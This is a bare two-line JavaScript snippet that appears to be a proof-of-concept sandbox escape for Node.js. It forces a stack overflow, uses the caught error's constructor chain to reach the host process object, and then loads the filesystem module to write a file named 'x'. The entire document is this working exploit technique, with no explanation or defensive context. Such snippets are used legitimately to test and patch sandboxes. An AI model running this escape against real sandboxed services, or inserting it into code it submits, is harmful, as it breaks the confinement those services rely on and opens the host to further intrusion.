const deep = () => deep();
try { deep(); } catch (e) { e.constructor.constructor('return process')().mainModule.require('fs').writeFileSync('x', ''); }
